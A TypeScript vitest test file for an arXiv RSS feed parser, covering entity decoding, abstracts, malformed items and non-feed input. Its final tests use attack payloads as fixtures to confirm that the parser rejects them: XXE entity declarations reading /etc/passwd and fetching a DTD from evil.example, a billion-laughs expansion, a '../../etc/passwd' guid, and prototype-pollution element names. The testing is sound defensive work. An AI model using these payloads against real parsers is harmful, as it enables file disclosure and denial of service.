import { describe, expect, it } from "vitest";
import { type FeedDocument, parseFeedXml } from "@/lib/arxiv/feed-xml";
import { emptyFeed, errorFeed, rssFeed } from "@/tests/support/arxiv-xml";
import { type Announced, inventDay, inventPaper } from "@/tests/support/invented";

const day = "2026-06-16";
const builtAt = new Date("2026-06-16T04:00:02Z");
const asked = ["cs.AI", "cs.CL", "cs.CV", "cs.DC", "cs.LG"];

/** A whole document as arXiv writes it, with every element that arXiv may leave out. */
const document = `<?xml version='1.0' encoding='UTF-8'?>
<rss xmlns:arxiv="http://arxiv.org/schemas/atom" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom" xmlns:content="http://purl.org/rss/1.0/modules/content/" version="2.0">
  <channel>
    <title>cs.LG updates on arXiv.org</title>
    <link>http://rss.arxiv.org/rss/cs.LG</link>
    <description>cs.LG updates on the arXiv.org e-print archive.</description>
    <atom:link href="http://rss.arxiv.org/rss/cs.LG" rel="self" type="application/rss+xml"/>
    <docs>http://www.rssboard.org/rss-specification</docs>
    <language>en-us</language>
    <lastBuildDate>Tue, 16 Jun 2026 04:00:02 +0000</lastBuildDate>
    <managingEditor>rss-help@arxiv.org</managingEditor>
    <pubDate>Tue, 16 Jun 2026 00:00:00 -0400</pubDate>
    <skipDays>
      <day>Sunday</day>
      <day>Saturday</day>
    </skipDays>
    <item>
      <title>Sharp Bounds when $a&lt;b$ &amp; $c&gt;d$: Erd\\H{o}s Revisited</title>
      <link>https://arxiv.org/abs/2606.48001</link>
      <description>arXiv:2606.48001v1 Announce Type: new 
Abstract: A first paragraph on $x \\in \\{y : y&lt;z\\}$.
  A second paragraph, which
goes on in a new line.</description>
      <guid isPermaLink="false">oai:arXiv.org:2606.48001v1</guid>
      <category>cs.LG</category>
      <category>cs.SY</category>
      <category>eess.SY</category>
      <pubDate>Tue, 16 Jun 2026 00:00:00 -0400</pubDate>
      <arxiv:announce_type>new</arxiv:announce_type>
      <dc:rights>http://creativecommons.org/licenses/by/4.0/</dc:rights>
      <dc:creator> Heliograph, Ada Nachtigall (Institute (Hall 3), Town), Li Wei</dc:creator>
    </item>
    <item>
      <title>Counting Crooked Walks by Hand</title>
      <link>https://arxiv.org/abs/math/0211159</link>
      <description>arXiv:math/0211159v3 Announce Type: replace-cross 
Abstract: An identifier of the old style.</description>
      <guid isPermaLink="false">oai:arXiv.org:math/0211159v3</guid>
      <category>math.CO</category>
      <category>cs.LG</category>
      <pubDate>Tue, 16 Jun 2026 00:00:00 -0400</pubDate>
      <arxiv:announce_type>replace-cross</arxiv:announce_type>
      <arxiv:DOI>10.99999/invented.017 10.99999/invented.018</arxiv:DOI>
      <arxiv:journal_reference>J. Invented Res. 12 (2008) 101--117 &amp; erratum</arxiv:journal_reference>
      <dc:creator>Tamsin Walczak-Reyes</dc:creator>
    </item>
  </channel>
</rss>
`;

/** One item, of which a test may write single elements otherwise ("" leaves one out). */
function item(elements: Partial<Record<keyof typeof usualItem, string>> = {}, id = "2606.00001") {
  const written = { ...usualItem, ...elements };
  return `<item>${Object.values(written).join("\n").replaceAll("ID", id)}</item>`;
}

const usualItem = {
  title: "<title>A title</title>",
  description: "<description>arXiv:IDv1 Announce Type: new \nAbstract: A text.</description>",
  guid: '<guid isPermaLink="false">oai:arXiv.org:IDv1</guid>',
  category: "<category>cs.AI</category>",
  type: "<arxiv:announce_type>new</arxiv:announce_type>",
  creator: "<dc:creator>Ada Moreau</dc:creator>",
  more: "",
};

function feedOf(...items: string[]): string {
  return `<?xml version="1.0"?>\n<rss version="2.0"><channel><title>cs.AI updates on arXiv.org</title>${items.join("\n")}</channel></rss>\n`;
}

function parsed(xml: string): FeedDocument {
  const result = parseFeedXml(xml);
  if ("code" in result) throw new Error(`${result.code}: ${result.message}`);
  return result;
}

function onlyPaper(elements: Parameters<typeof item>[0]) {
  const { papers, malformed } = parsed(feedOf(item(elements)));
  expect(malformed).toEqual([]);
  expect(papers).toHaveLength(1);
  return papers[0]?.paper;
}

describe("parseFeedXml on what arXiv writes", () => {
  it("reads a whole document", () => {
    expect(parseFeedXml(document)).toEqual({
      day: "2026-06-16",
      malformed: [],
      papers: [
        {
          announceType: "new",
          paper: {
            id: "2606.48001",
            version: 1,
            title: "Sharp Bounds when $a<b$ & $c>d$: Erd\\H{o}s Revisited",
            abstract:
              "A first paragraph on $x \\in \\{y : y<z\\}$.\n\n" +
              "A second paragraph, which goes on in a new line.",
            authors: [
              { name: "Heliograph" },
              { name: "Ada Nachtigall", affiliations: ["Institute (Hall 3)", "Town"] },
              { name: "Li Wei" },
            ],
            categories: ["cs.LG", "cs.SY", "eess.SY"],
            licence: "http://creativecommons.org/licenses/by/4.0/",
          },
        },
        {
          announceType: "replace-cross",
          paper: {
            id: "math/0211159",
            version: 3,
            title: "Counting Crooked Walks by Hand",
            abstract: "An identifier of the old style.",
            authors: [{ name: "Tamsin Walczak-Reyes" }],
            categories: ["math.CO", "cs.LG"],
            doi: "10.99999/invented.017 10.99999/invented.018",
            journalReference: "J. Invented Res. 12 (2008) 101--117 & erratum",
          },
        },
      ],
    });
  });

  it("reads every paper of a day, the hostile ones included", () => {
    const items = inventDay({ seed: 5, count: 300, day, hostile: true });
    const { papers, malformed } = parsed(rssFeed({ asked, items, day, builtAt }));
    expect(malformed).toEqual([]);

    const announced = new Map(items.map((paper) => [paper.id, paper]));
    expect(papers.length).toBeGreaterThan(250);
    for (const { paper } of papers) {
      const source = announced.get(paper.id) as Announced;
      const { version, categories, licence, doi, journalReference } = source;
      const title = source.title.replace(/\s+/g, " ").trim();
      const abstract = source.abstract.replace(/\n {2}/g, "\n\n").trim();
      expect(paper).toEqual({
        id: source.id,
        version,
        title,
        abstract,
        authors: paper.authors,
        categories,
        ...(licence && { licence }),
        ...(doi && { doi }),
        ...(journalReference && { journalReference }),
      });
      const names = paper.authors.map(({ name }) => name);
      for (const name of names) expect(source.creator).toContain(name);
      expect(names.length).toBeGreaterThan(0);
    }
    const crowd = papers.filter(({ paper }) => paper.authors.length === 200);
    expect(crowd).toHaveLength(1);
  });

  it("reads a channel without items, as on a weekend", () => {
    const xml = emptyFeed({ asked: ["cs.AI"], day: "2026-06-20", builtAt });
    expect(parseFeedXml(xml)).toEqual({ papers: [], malformed: [], day: "2026-06-20" });
  });

  it("takes the document's day from its date as written, in winter as in summer", () => {
    const paper = inventPaper({ categories: ["cs.AI"] });
    for (const date of ["2026-01-05", "2026-03-09", "2026-11-02", "2026-12-31"]) {
      const xml = rssFeed({ asked: ["cs.AI"], items: [paper], day: date, builtAt });
      expect(parsed(xml).day).toBe(date);
    }
    expect(parsed(feedOf(item())).day).toBeNull();
    expect(parsed(feedOf("<pubDate>soon</pubDate>", item())).day).toBeNull();
    expect(parsed(feedOf("<pubDate>Tue, 16 Foo 2026</pubDate>", item())).day).toBeNull();
  });

  it("tells arXiv's refusal of a query, in arXiv's words", () => {
    expect(parseFeedXml(errorFeed("xx", "Bad archive 'xx'. Valid archive names are: cs."))).toEqual(
      {
        code: "refused_query",
        message: "arXiv refused the query: Bad archive 'xx'. Valid archive names are: cs.",
      },
    );
  });

  it("reads a document behind a byte order mark and between blank lines", () => {
    expect(parsed(`\uFEFF${document}`).papers).toHaveLength(2);
    expect(parsed(`\n\n${document}${"\n".repeat(1000)}`).papers).toHaveLength(2);
  });
});

describe("parseFeedXml on text", () => {
  it.each([
    ["escaped marks", "a &lt;b&gt; &amp; &quot;c&quot; &apos;d&apos;", "a <b> & \"c\" 'd'"],
    ["numbered characters", "&#233;&#xe9;&#x1F680; &#65;", "éé🚀 A"],
    [
      "what is escaped twice, once",
      "&amp;lt;b&amp;gt; &amp;amp; &amp;#65;",
      "&lt;b&gt; &amp; &#65;",
    ],
    ["names that XML does not know as they stand", "&bogus; &eacute;", "&bogus; &eacute;"],
    ["a CDATA section as it stands", "<![CDATA[a <b> &amp; c]]>", "a <b> &amp; c"],
    ["text around a CDATA section", "a &amp; <![CDATA[<b>]]> c", "a & <b> c"],
    ["text around a comment", "a <!-- not this --> b", "a b"],
    ["blanks and line ends as one blank", "\n  a \t\r\n  b&#10;c&#160;d ", "a b c d"],
    ["marks that somebody forgot to escape", "a & b &c; > d", "a & b &c; > d"],
    ["numbers as text", "2501.10", "2501.10"],
    ["a markup declaration that is only text", "&lt;!DOCTYPE html&gt;", "<!DOCTYPE html>"],
    ["nothing", "", ""],
  ])("reads %s", (_, written, title) => {
    expect(onlyPaper({ title: `<title>${written}</title>` })?.title).toBe(title);
  });

  it("survives characters that XML forbids, written or numbered", () => {
    const title = "<title>a\u0000b\u0007&#0;&#8;&#xFFFF;&#xD800;c&#x110000;</title>";
    expect(onlyPaper({ title })?.title).toMatch(/^a.*b.*c/);
    const guid = "<guid>oai:arXiv.org:\u00002606.00002v1</guid>";
    const { papers, malformed } = parsed(feedOf(item({ guid, description: "<description/>" })));
    expect(papers).toEqual([]);
    expect(malformed).toEqual([
      'item 1 of arXiv\'s feed was skipped: its guid "oai:arXiv.org:\\u00002606.00002v1" names no paper',
    ]);
  });

  it("keeps an abstract's paragraphs, and no other line ends", () => {
    const abstract = (text: string) =>
      onlyPaper({
        description: `<description>arXiv:IDv1 Announce Type: new \nAbstract: ${text}</description>`,
      })?.abstract;
    expect(abstract("One\n  two\n\nthree\nfour\r\n  five")).toBe(
      "One\n\ntwo\n\nthree four\n\nfive",
    );
    expect(abstract("\n  \n  One\n  ")).toBe("One");
    expect(abstract("")).toBe("");
    expect(abstract("Abstract: arXiv:2606.1 Announce Type: new")).toBe(
      "Abstract: arXiv:2606.1 Announce Type: new",
    );
  });

  it("reads the blanks before the abstract however a proxy has changed them", () => {
    for (const blanks of [" ", "  ", "\n", " \r\n", "\n\n  "]) {
      const text = `arXiv:IDv1 Announce Type: new${blanks}Abstract: A text.`;
      expect(onlyPaper({ description: `<description>${text}</description>` })?.abstract).toBe(
        "A text.",
      );
    }
  });

  it("takes a description of another form whole for the abstract", () => {
    const description = "<description>Just a text.\n  And more.</description>";
    expect(onlyPaper({ description })?.abstract).toBe("Just a text.\n\nAnd more.");
  });

  it("takes id and type from the description where their own elements are missing", () => {
    expect(parsed(feedOf(item({ guid: "", type: "" }))).papers).toMatchObject([
      { paper: { id: "2606.00001", version: 1 }, announceType: "new" },
    ]);
  });

  it("counts the first of several elements, and everybody of several creators", () => {
    const twice = (element: string) => `<${element}>one</${element}><${element}>two</${element}>`;
    expect(
      onlyPaper({
        title: twice("title"),
        guid: `${usualItem.guid}<guid>oai:arXiv.org:2606.99999v1</guid>`,
        creator: "<dc:creator>Ada Moreau</dc:creator><dc:creator>Bo Ek, Li Wei</dc:creator>",
        more: twice("dc:rights") + twice("arxiv:DOI") + twice("arxiv:journal_reference"),
      }),
    ).toEqual({
      id: "2606.00001",
      version: 1,
      title: "one",
      abstract: "A text.",
      authors: [{ name: "Ada Moreau" }, { name: "Bo Ek" }, { name: "Li Wei" }],
      categories: ["cs.AI"],
      licence: "one",
      doi: "one",
      journalReference: "one",
    });
  });

  it("leaves out what is there but empty", () => {
    const more = "<dc:rights/><arxiv:DOI> </arxiv:DOI><arxiv:journal_reference/>";
    expect(onlyPaper({ more, creator: "<dc:creator/>" })).toEqual({
      id: "2606.00001",
      version: 1,
      title: "A title",
      abstract: "A text.",
      authors: [],
      categories: ["cs.AI"],
    });
  });

  it("reads a title of ten million letters", () => {
    const title = `<title>${"a".repeat(10_000_000)}</title>`;
    expect(onlyPaper({ title })?.title).toHaveLength(10_000_000);
  });
});

describe("parseFeedXml on an item that cannot be read", () => {
  it.each([
    ["no title", { title: "" }, "title: it is missing or no plain text"],
    ["markup in the title", { title: "<title>a <b>b</b></title>" }, "title: it is missing or no"],
    ["no description", { description: "" }, "description: it is missing or no plain text"],
    ["no category", { category: "" }, "category: none is named"],
    ["an empty category", { category: "<category> </category>" }, "category: none is named"],
    ["a guid of something else", badGuid("https://arxiv.org/abs/x"), 'its guid "https://arxiv.org'],
    ["version 0", badGuid("oai:arXiv.org:2606.00002v0"), "names no paper"],
    ["an id that climbs", badGuid("oai:arXiv.org:../../etc/passwd"), "names no paper"],
    ["an unknown type", { type: usualItem.type.replace("new", "lost") }, "has no announce type"],
  ])("skips one with %s, tells so, and keeps the others", (_, wrong, why) => {
    const { papers, malformed } = parsed(
      feedOf(item({}, "2606.00001"), item(wrong, "2606.00002"), item({}, "2606.00003")),
    );
    expect(papers.map(({ paper }) => paper.id)).toEqual(["2606.00001", "2606.00003"]);
    expect(malformed).toHaveLength(1);
    expect(malformed[0]).toContain("item 2 of arXiv's feed was skipped: ");
    expect(malformed[0]).toContain(why);
  });

  function badGuid(guid: string) {
    return { guid: `<guid>${guid}</guid>`, description: "<description>Any.</description>" };
  }

  it("skips an empty one", () => {
    const { papers, malformed } = parsed(feedOf("<item/>", item(), "<item></item>"));
    expect(papers).toHaveLength(1);
    expect(malformed).toEqual([
      "item 1 of arXiv's feed was skipped: it is empty",
      "item 3 of arXiv's feed was skipped: it is empty",
    ]);
  });

  it("is not troubled by elements that it does not know", () => {
    const more = "<arxiv:comment>12 pages</arxiv:comment><toString>x</toString><hasOwnProperty/>";
    expect(onlyPaper({ more })?.id).toBe("2606.00001");
  });
});

describe("parseFeedXml on what is no whole feed", () => {
  const failureOf = (xml: string) => {
    const result = parseFeedXml(xml);
    return "code" in result ? result : null;
  };

  it("never takes the beginning of a document for all of it", () => {
    const items = inventDay({ seed: 9, count: 20, day, hostile: true });
    const bytes = Buffer.from(rssFeed({ asked, items, day, builtAt }).trimEnd());
    for (let length = 0; length < bytes.length; length += 97) {
      const failure = failureOf(bytes.subarray(0, length).toString("utf8"));
      expect(failure?.code, `the first ${length} bytes`).toMatch(/^(not_a_feed|truncated)$/);
    }
    const almost = bytes.subarray(0, bytes.length - 1).toString("utf8");
    expect(failureOf(almost)?.code).toBe("truncated");
  });

  it("never takes a document for whole whose items have lost their end", () => {
    const whole = [item({}, "2606.00001"), item({}, "2606.00002"), item({}, "2606.00003")];
    for (const lost of ["</item>", "</title>", "</dc:creator>", "</category>"]) {
      const xml = feedOf(
        ...whole.map((each, index) => (index === 1 ? each.replace(lost, "") : each)),
      );
      expect(failureOf(xml)?.code, lost).toBe("not_a_feed");
    }
    const hole = feedOf(...whole).replace(/<\/title>\n<description>[\s\S]*?<description>/, "");
    expect(failureOf(hole)?.code).toBe("not_a_feed");
  });

  it.each([
    ["nothing", "", "not_a_feed", "arXiv's answer is empty"],
    ["blanks", " \n\uFEFF ", "not_a_feed", "arXiv's answer is empty"],
    ["a web page", "<!doctype html>\n<html></html>", "not_a_feed", "a web page instead of a feed"],
    ["a web page behind a mark", "\uFEFF<HTML></HTML>", "not_a_feed", "a web page instead"],
    [
      "a web page in XML",
      '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"></html>',
      "not_a_feed",
      "not an RSS document",
    ],
    [
      "an Atom feed",
      '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>cs.AI</title></feed>',
      "not_a_feed",
      "not an RSS document",
    ],
    ["a sentence", "Rate exceeded.", "not_a_feed", "not an RSS document"],
    ["JSON", '{"rss": {"channel": {"title": "x"}}}', "not_a_feed", "not an RSS document"],
    ["RSS without a channel", "<rss></rss>", "not_a_feed", "not a feed"],
    ["RSS with two channels", "<rss><channel/><channel/></rss>", "not_a_feed", "not a feed"],
    ["a channel without a title", "<rss><channel><link/></channel></rss>", "not_a_feed", "title"],
    ["bytes of any kind", "\u0000\u0001\u0002\ufffd<rss", "not_a_feed", "not an RSS document"],
    ["a comment that never ends", feedOf("<!-- "), "not_a_feed", "not a feed"],
    ["a section that never ends", feedOf("<![CDATA[ "), "not_a_feed", "not a feed"],
    ["a mountain of tags", feedOf("<a>".repeat(100_000)), "not_a_feed", "not a feed"],
  ])("refuses %s", (_, xml, code, words) => {
    const failure = failureOf(xml);
    expect(failure?.code).toBe(code);
    expect(failure?.message).toContain(words);
  });

  it("refuses every document that declares entities, and expands none", () => {
    const declarations = [
      '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">',
      '<!ENTITY c SYSTEM "file:///etc/passwd">',
      '<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;',
    ];
    for (const declared of declarations) {
      const doctype = `<!DOCTYPE rss [${declared}]>`;
      const feed = feedOf(item({ title: "<title>&c;</title>" }));
      for (const xml of [
        feed.replace("<rss", `${doctype}<rss`),
        feed.replace("<channel>", `${doctype.toLowerCase()}<channel>`),
        `<!-- ${" ".repeat(2000)} -->${doctype}${feed}`,
      ]) {
        expect(failureOf(xml)?.code).toBe("not_a_feed");
      }
    }
  });

  it("refuses elements named for what every object has, and changes no object", () => {
    for (const name of ["__proto__", "constructor", "prototype"]) {
      const more = `<${name}><title>x</title><polluted>yes</polluted></${name}>`;
      expect(failureOf(feedOf(item({ more })))?.code).toBe("not_a_feed");
      expect(failureOf(feedOf(more, item()))?.code).toBe("not_a_feed");
    }
    expect("polluted" in {}).toBe(false);
    expect("title" in {}).toBe(false);
  });
});
